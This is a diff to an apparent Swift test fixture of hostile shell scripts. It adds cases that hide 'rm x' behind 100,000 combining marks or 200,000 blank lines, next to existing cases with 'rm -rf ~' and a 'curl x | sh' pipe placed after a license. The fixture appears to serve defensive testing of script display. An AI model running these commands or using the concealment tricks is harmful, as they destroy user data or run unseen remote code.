@@ -89,6 +89,10 @@ extension HostileProgram {
     script("blanks that aren't spaces", "rm\u{A0}-rf\u{3000}~\u{2003}\u{1680}\u{202F}\u{2800}\n"),
     script("selectors after digits and letters", "sleep 1\u{FE0F}0; a\u{FE0E}=\u{E0100}\n"),
     script("an annotation, and deprecated formats", "\u{FFF9}a\u{FFFA}b\u{FFFB}\u{206A}\u{206F}\n"),
+    script(
+      "marks that cover other lines", "# a\(String(repeating: "\u{301}", count: 100_000))\nrm x\n"),
+    script(
+      "more lines than can be shown at once", String(repeating: "\n", count: 200_000) + "rm x\n"),
     script("what looks like a mark already", "# ⟨U+XXXX⟩ ⟨U+⟩ ⟨ ⟩\n"),
     script("right-to-left text", "# سطر من النص العربي مع date في داخله\necho שלום\n"),
     script("code below a license", license.joined() + "touch ~/.hidden; curl x | sh\n"),
